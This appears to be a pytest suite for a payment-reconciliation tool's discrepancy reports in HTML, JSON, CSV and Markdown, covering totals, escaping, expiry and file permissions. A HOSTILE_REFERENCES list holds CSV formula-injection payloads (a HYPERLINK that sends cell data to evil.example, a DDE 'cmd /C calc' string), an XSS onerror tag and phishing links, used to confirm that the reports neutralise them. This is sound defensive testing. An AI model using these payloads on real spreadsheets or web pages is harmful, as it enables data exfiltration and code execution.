"""Reports: rendered from a faulty scenario's discrepancies, totals checked in every format."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import stat
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from hookledger.cli import main
from reconcile.report import Row, Windows, build_report
from reconcile.report_files import expired_reports, report_for
from reconcile.report_render import render
from sandbox.faults import FaultSettings
from sandbox.runner import running_sandbox
from tests.reconcile_helpers import (
    API_KEY,
    CountingState,
    body,
    deliver,
    expect,
    reconcile,
    rows,
)


def faulty_scenario(db_url: str) -> None:
    state = CountingState()
    state.record_general(body("payment.confirmed", 91000, reference="M-1", amount=1500))
    state.record_general(body("payment.confirmed", 91000, reference="M-2", amount=2500))
    state.record_general(body("payment.failed", 91052, reference="F-1", amount=0,
                              status="FAILED", transaction_id="-1"))
    state.record_general(body("payment.confirmed", 91000, reference="A-1", amount=1000))
    deliver(db_url, "payment.confirmed", 91000, reference="A-1", amount=1250)
    deliver(db_url, "payment.confirmed", 91000, reference="F-1", amount=300)
    for ref, amount in (("M-1", 1500), ("M-2", 2500), ("N-1", 400)):
        expect(db_url, ref, "collection", amount)
    with running_sandbox(state=state, faults=FaultSettings(error_count=2)) as api:
        reconcile(db_url, api.url)


def test_the_html_report_of_a_faulty_scenario_shows_the_right_totals(db_url: str) -> None:
    faulty_scenario(db_url)
    report = asyncio.run(report_for(db_url))
    assert report["totals"] == {"discrepancies": 5, "open": 5, "resolved": 0,
                                "amount_at_risk_open": "4950"}
    assert {k["kind"]: k["open"] for k in report["by_kind"]} == {
        "amount_mismatch": 1, "missing_webhook": 2, "status_mismatch": 1,
        "unknown_at_provider": 1}
    page = render(report, "html")
    assert re.search(r'id=total-open>Open<b>5</b>', page)
    assert re.search(r'id=total-at-risk>Amount at risk \(open\)<b>4950</b>', page)
    assert "<svg" in page and "http://" not in page.replace(
        'xmlns="http://www.w3.org/2000/svg"', "")
    assert "<script" not in page and "<link" not in page
    assert "Code 91052: Customer did not confirm in time; retry: yes." in page
    data = json.loads(render(report, "json"))
    assert data["schema_version"] == 1 and data["totals"]["open"] == 5
    table = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert sum(Decimal(r["amount_at_risk"]) for r in table) == Decimal(4950)
    assert "| missing_webhook | 2 | 0 | 4000 |" in render(report, "md")
    assert rows(db_url, "SELECT count(*) FROM hookledger.discrepancies") == [(5,)]


def test_report_generation_escapes_text_and_ages_open_discrepancies() -> None:
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
    items = [Row("a", "status_mismatch", "Collection", "collection", "<b>x</b>", "d & e",
                 Decimal("10.5"), "open", now - timedelta(days=2), None),
             Row("b", "unresolved", "Disbursement", "payout", "P", "d", None, "resolved",
                 now - timedelta(hours=2), now - timedelta(hours=1))]
    report = build_report(items, now=now)
    assert [a["open"] for a in report["aging"]] == [0, 0, 1, 0]
    assert report["timeline"] == [{"date": "2026-11-20", "detected": 1, "resolved": 0},
                                  {"date": "2026-11-22", "detected": 1, "resolved": 1}]
    page = render(report, "html")
    assert "&lt;b&gt;x&lt;/b&gt;" in page and "<b>x</b>" not in page


HOSTILE_REFERENCES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\tTAB", "\rCR", "ref\rX", "ref\nY", "ref\r| injected | cell",
    "<img src=x onerror=alert(1)> [pay here](http://evil.example)", "![i](http://x)",
    "a|b", "`code`", "*bold* _it_",
    # bare addresses, which GitHub-flavoured Markdown links with no markup
    "see https://evil.example/login", "WWW.evil.example/pay", "refunds@evil.example",
]


def hostile_report(reference: str, amount: str = "10.50") -> dict[str, object]:
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
    return build_report([Row("a", "missing_webhook", "Collection", "collection", reference,
                             f"detail {reference}", Decimal(amount), "open",
                             now - timedelta(hours=2), None)], now=now)


@pytest.mark.parametrize("reference", HOSTILE_REFERENCES)
def test_the_csv_report_reads_back_as_written_and_runs_no_formula(reference: str) -> None:
    """References and details come from webhooks: a spreadsheet must neither run one as a
    formula nor break its row at a bare CR."""
    [row] = list(csv.DictReader(io.StringIO(render(hostile_report(reference), "csv"),
                                            newline="")))
    for field in ("reference", "detail"):
        cell = row[field]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.removeprefix("'") == (reference if field == "reference"
                                           else f"detail {reference}")
    assert row["amount_at_risk"] == "10.50"


def test_the_open_lists_show_each_detail_and_the_id_resolve_takes() -> None:
    """The Markdown list showed neither what differs (the detail: amounts, what was
    recovered) nor the id ``hookledger resolve`` needs; the HTML one lacked the id."""
    report = hostile_report("C-3")
    page = render(report, "md")
    [open_row] = [line for line in page.splitlines()
                  if line.startswith("| missing_webhook | Collection")]
    assert "| detail C-3 |" in open_row and open_row.endswith("| a |")
    assert "| detail | what to do | id |" in page
    html_page = render(report, "html")
    assert "<th>id</th>" in html_page and "<td>a</td>" in html_page


def test_a_negative_amount_stays_a_number_in_the_csv_report() -> None:
    [row] = list(csv.DictReader(io.StringIO(render(hostile_report("R", "-5.25"), "csv"),
                                            newline="")))
    assert row["amount_at_risk"] == "-5.25"


@pytest.mark.parametrize("reference", HOSTILE_REFERENCES)
def test_the_markdown_report_shows_text_as_text(reference: str) -> None:
    page = render(hostile_report(reference), "md")
    [open_row] = [line for line in page.splitlines()
                  if line.startswith("| missing_webhook | Collection |")]
    assert len(page.splitlines()) == len(render(hostile_report("R"), "md").splitlines())
    # eight cells, whatever the reference holds: no unescaped pipe, no line break
    assert len(re.findall(r"(?<!\\)\|", open_row)) == 9
    # no link, image or HTML: every bracket, angle bracket and bang is escaped
    assert re.search(r"(?<!\\)[<>\[\]!]", open_row) is None
    # nor a bare address GitHub would link: its ``://``, ``www.`` and ``@`` are broken
    assert re.search(r"(?i)(?<!\\)://|www(?<!\\)\.|(?<!\\)@", open_row) is None


def test_a_resolution_folded_before_its_detection_does_not_stop_the_report() -> None:
    """Replayed out of order, a resolution makes a resolved row with no detection time yet;
    that one row failed every format of every report until the detection was folded."""
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
    report = build_report([Row("b", "unknown_at_provider", "Collection", "collection", "R",
                               "d", None, "resolved", None, now - timedelta(hours=1))],
                          now=now)
    assert report["totals"] == {"discrepancies": 1, "open": 0, "resolved": 1,
                                "amount_at_risk_open": "0"}
    assert report["timeline"] == [{"date": "2026-11-22", "detected": 0, "resolved": 1}]
    for fmt in ("html", "md", "csv", "json"):
        assert render(report, fmt)


def test_a_payment_with_several_open_discrepancies_is_at_risk_once() -> None:
    """A failure beside a success of 10,000 that the provider calls failed holds a conflict
    and a mismatch at once: 10,000 is at risk, not 20,000."""
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)

    def row(i: str, kind: str, reference: str, risk: str | None) -> Row:
        return Row(i, kind, "Collection", "collection", reference, "d",
                   None if risk is None else Decimal(risk), "open",
                   now - timedelta(minutes=5), None)

    report = build_report([row("a", "conflicting_events", "C-1", "10000"),
                           row("b", "status_mismatch", "C-1", "10000"),
                           row("c", "amount_mismatch", "C-1", "250"),
                           row("d", "missing_webhook", "C-2", "500"),
                           row("e", "unresolved", "C-3", None)], now=now)
    assert report["totals"]["amount_at_risk_open"] == "10500"
    assert report["totals"]["open"] == 5
    assert {k["kind"]: k["amount_at_risk_open"] for k in report["by_kind"]} == {
        "amount_mismatch": "250", "conflicting_events": "10000", "missing_webhook": "500",
        "status_mismatch": "10000", "unresolved": "0"}
    assert [s["amount_at_risk_open"] for s in report["by_service"]] == ["10500"]
    assert report["aging"][0] == {"bucket": "<1h", "open": 5, "amount_at_risk": "10500"}


def test_money_at_risk_counts_each_payment_once_as_the_reports_do(db_url: str) -> None:
    """A-1 holds an amount mismatch (the provider's 1,000 against the webhook's 1,250) and,
    once a failure arrives beside its success, a conflict too: in the money_at_risk view it
    is one row, and the view's sum is the reports' total where the discrepancies view's
    plain sum counts A-1 twice."""
    faulty_scenario(db_url)
    deliver(db_url, "payment.failed", 91052, reference="A-1", amount=0, status="FAILED",
            transaction_id="-1")
    [(kinds, count)] = rows(db_url, "SELECT kinds, open_discrepancies "
                                    "FROM hookledger.money_at_risk WHERE reference = 'A-1'")
    assert count == 2 and "conflicting_events" in kinds and "amount_mismatch" in kinds
    report = asyncio.run(report_for(db_url))
    [(view_total,)] = rows(db_url, "SELECT sum(amount_at_risk) FROM hookledger.money_at_risk")
    assert view_total == Decimal(report["totals"]["amount_at_risk_open"])
    [(plain_sum,)] = rows(db_url, "SELECT sum(amount_at_risk) FROM hookledger.discrepancies "
                                  "WHERE status = 'open'")
    assert plain_sum > view_total
    assert rows(db_url, "SELECT count(*) FROM hookledger.money_at_risk") == rows(
        db_url, "SELECT count(DISTINCT (subject, reference)) FROM hookledger.discrepancies "
                "WHERE status = 'open'")


def test_an_unresolved_payout_is_never_advised_a_new_collection(
        db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """From the command line, windows set: the unresolved payout's advice names the payout
    window and warns against paying twice; the collection's names its own window."""
    state = CountingState()
    state.put_record("PO-U", {"reference": "PO-U", "status": "APPROVED", "amount": 700,
                              "event": "payout.approved", "code": 92002,
                              "service": "Disbursement", "type": "PAYOUT"})
    state.put_record("C-U", {"reference": "C-U", "status": "PENDING", "amount": 500,
                             "service": "Collection", "type": "CHARGE"})
    expect(db_url, "PO-U", "payout", 700, minutes_ago=3 * 60)  # past a 2 h payout window
    expect(db_url, "C-U", "collection", 500)
    for key in [k for k in os.environ if k.startswith("HOOKLEDGER_")]:
        monkeypatch.delenv(key)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOOKLEDGER_DATABASE_URL", db_url)
    monkeypatch.setenv("HOOKLEDGER_HOME", str(tmp_path))
    monkeypatch.setenv("HOOKLEDGER_API_KEY", API_KEY)
    monkeypatch.setenv("HOOKLEDGER_RECONCILE_PAYOUT_WINDOW_S", "7200")
    monkeypatch.setenv("HOOKLEDGER_RESOLUTION_WINDOW_S", "120")
    runner = CliRunner()
    with running_sandbox(state=state) as api:
        monkeypatch.setenv("HOOKLEDGER_API_BASE_URL", api.url)
        found = runner.invoke(main, ["reconcile"])
        assert found.exit_code == 0, found.output
    out = tmp_path / "r.json"
    written = runner.invoke(main, ["report", "--format", "json", "--out", str(out)])
    assert written.exit_code == 0, written.output
    actions = {(o["kind"], o["subject"]): o["action"]
               for o in json.loads(out.read_text())["open"]}
    assert set(actions) == {("unresolved", "payout"), ("unresolved", "collection")}
    payout = actions[("unresolved", "payout")]
    assert "collection" not in payout and "90 s" not in payout
    assert "2 h payout window" in payout and "twice" in payout
    collection = actions[("unresolved", "collection")]
    assert "2 min" in collection and "90 s" not in collection


def test_each_subject_gets_its_own_advice_and_its_own_window() -> None:
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)

    def row(i: str, kind: str, subject: str, service: str) -> Row:
        return Row(i, kind, service, subject, f"R-{i}", "d", None, "open",
                   now - timedelta(minutes=int(i)), None)

    report = build_report([row("1", "unresolved", "collection", "Collection"),
                           row("2", "unresolved", "payout", "Disbursement"),
                           row("3", "unknown_at_provider", "payout", "Disbursement"),
                           row("4", "unknown_at_provider", "collection", "Collection")],
                          now=now, windows=Windows(collection=timedelta(seconds=90),
                                                   payout=timedelta(hours=24)))
    actions = {o["reference"]: o["action"] for o in report["open"]}
    assert "90 s" in actions["R-1"] and "new collection" in actions["R-1"]
    assert "24 h" in actions["R-2"] and "collection" not in actions["R-2"]
    assert "customer" not in actions["R-3"] and "again" in actions["R-3"]
    assert "re-initiate" in actions["R-4"] and "do not fulfil" in actions["R-4"]


def test_scheduled_reports_name_the_configured_payout_window(db_url: str,
                                                            tmp_path: Path) -> None:
    from reconcile.scheduler import ReconcileScheduler

    state = CountingState()
    state.put_record("PO-U", {"reference": "PO-U", "status": "APPROVED", "amount": 700,
                              "event": "payout.approved", "code": 92002,
                              "service": "Disbursement", "type": "PAYOUT"})
    expect(db_url, "PO-U", "payout", 700, minutes_ago=3 * 60)
    with running_sandbox(state=state) as api:
        reconcile(db_url, api.url, payout_window=timedelta(hours=2))

    async def write() -> None:
        reports = ReconcileScheduler(None, None, interval_s=60, database_url=db_url,
                                     reports_dir=tmp_path, report_interval_s=3600,
                                     report_windows=Windows(payout=timedelta(hours=2)))
        assert await reports.report_once()

    asyncio.run(write())
    (only,) = json.loads((tmp_path / "latest.json").read_text())["open"]
    assert "2 h payout window" in only["action"] and "collection" not in only["action"]


def test_only_stamped_reports_past_the_keep_time_expire() -> None:
    now = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
    names = ["discrepancies-20261026T115959Z.html", "discrepancies-20261026T120001Z.csv",
             "discrepancies-20261101T000000Z.json", "latest.html", "notes.txt",
             "discrepancies-20200101T000000Z.pdf", "discrepancies-garbled.md",
             ".discrepancies-20200101T000000Z.md.abc.tmp"]
    assert expired_reports(names, now, timedelta(days=30)) == [
        "discrepancies-20261026T115959Z.html"]


def test_scheduled_reports_older_than_the_keep_time_are_removed(db_url: str,
                                                               tmp_path: Path) -> None:
    """Every format of every interval was kept for ever (four files an hour), on the disk
    the spool and the embedded database need."""
    from reconcile.scheduler import ReconcileScheduler

    old = tmp_path / "discrepancies-20200101T000000Z.html"
    mine = tmp_path / "notes.txt"
    old.write_text("old")
    mine.write_text("a person's own file")

    async def write(keep: timedelta | None) -> list[Path]:
        reports = ReconcileScheduler(None, None, interval_s=60, database_url=db_url,
                                     reports_dir=tmp_path, report_interval_s=3600,
                                     report_keep=keep)
        return list(await reports.report_once())

    first = asyncio.run(write(None))  # 0: kept for ever
    assert old.exists()
    an_interval_ago = (datetime.now(UTC) - timedelta(hours=1)).strftime("%Y%m%dT%H%M%SZ")
    for path in first:  # as if written an interval ago: the next one is due
        if path.name.startswith("discrepancies-"):
            path.rename(path.with_name(f"discrepancies-{an_interval_ago}{path.suffix}"))
    written = asyncio.run(write(timedelta(days=30)))
    assert not old.exists() and mine.exists()
    assert all(path.exists() for path in written) and len(written) == 8


def test_a_disk_too_full_for_the_report_still_gets_the_expired_ones_removed(
        db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pruned only after every format was written, a full disk failed the first write and
    kept every expired report: the disk the spool and the embedded database share stayed
    full. They go first now; and the report is rendered off the event loop."""
    import errno
    import threading

    from reconcile import report_files
    from reconcile.scheduler import ReconcileScheduler

    old = tmp_path / "discrepancies-20200101T000000Z.json"
    old.write_text("old")
    written_on: list[str] = []

    def full_disk(path: Path, **kwargs: object) -> object:
        written_on.append(threading.current_thread().name)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(report_files, "atomic_text", full_disk)
    reports = ReconcileScheduler(None, None, interval_s=60, database_url=db_url,
                                 reports_dir=tmp_path, report_interval_s=3600,
                                 report_keep=timedelta(days=30))
    assert asyncio.run(reports.report_once()) is None  # failed, and said so
    assert not old.exists()
    assert written_on and threading.main_thread().name not in written_on


# amounts as ingest admits them: below 10**16, down to 10**-15 and past it
RISKS = st.decimals(min_value=0, max_value=Decimal("9999999999999999.999999999999999"),
                    places=15, allow_nan=False, allow_infinity=False)


@given(risks=st.lists(RISKS, min_size=1, max_size=12),
       kinds=st.lists(st.sampled_from(["missing_webhook", "amount_mismatch"]), min_size=12,
                      max_size=12))
def test_money_at_risk_is_summed_without_rounding(risks: list[Decimal],
                                                  kinds: list[str]) -> None:
    """Every total is the exact sum, as SQL's ``sum`` over numeric gives it (the README's
    money_at_risk total is the reports'): in Decimal's default context each addition was
    rounded to 28 digits, and 999999999999999.5 plus a payment of 10**-15 lost the latter."""
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
    items = [Row(f"d{i}", kinds[i], "Collection", "collection", f"R-{i}", "d", risk, "open",
                now - timedelta(minutes=5), None) for i, risk in enumerate(risks)]
    report = build_report(items, now=now)
    exact = sum((Fraction(r) for r in risks), Fraction(0))
    assert Fraction(Decimal(report["totals"]["amount_at_risk_open"])) == exact
    assert sum(Fraction(Decimal(k["amount_at_risk_open"])) for k in report["by_kind"]) == exact
    assert Fraction(Decimal(report["by_service"][0]["amount_at_risk_open"])) == exact
    assert sum(Fraction(Decimal(a["amount_at_risk"])) for a in report["aging"]) == exact
    for text in render(report, "md").split():
        assert "E+" not in text and "E-" not in text


def test_money_at_risk_of_fifteen_places_on_a_large_amount_is_kept() -> None:
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
    items = [Row(f"d{i}", "missing_webhook", "Collection", "collection", f"R-{i}", "d",
                Decimal(risk), "open", now - timedelta(minutes=5), None)
            for i, risk in enumerate(["999999999999999.5", "0.000000000000001"])]
    assert build_report(items, now=now)["totals"]["amount_at_risk_open"] == \
        "999999999999999.500000000000001"


@pytest.mark.parametrize("umask", [0o027, 0o077, 0o002])
def test_scheduled_reports_get_what_the_umask_gives(db_url: str, tmp_path: Path,
                                                    umask: int) -> None:
    """Every scheduled report (references and amounts) was made 0644 whatever the umask:
    a service run under 027 or 077 to keep its files private published them to every
    local user. A report replaced keeps its own mode."""
    from reconcile.scheduler import ReconcileScheduler

    async def write() -> list[Path]:
        reports = ReconcileScheduler(None, None, interval_s=60, database_url=db_url,
                                     reports_dir=tmp_path, report_interval_s=3600)
        return list(await reports.report_once())

    before = os.umask(umask)
    try:
        written = asyncio.run(write())
    finally:
        os.umask(before)
    assert len(written) == 8
    assert {oct(stat.S_IMODE(path.stat().st_mode)) for path in written} == {
        oct(0o666 & ~umask)}


def test_the_new_file_mode_is_read_without_changing_the_umask() -> None:
    """``os.umask`` tells only by setting it, for a moment in which another thread's new
    files (the spool's) would be made world-writable; the mode is read from ``/proc``."""
    from reconcile.report_files import new_file_mode

    before = os.umask(0o027)
    try:
        assert new_file_mode() == 0o640
        assert os.umask(0o027) == 0o027  # untouched
    finally:
        os.umask(before)
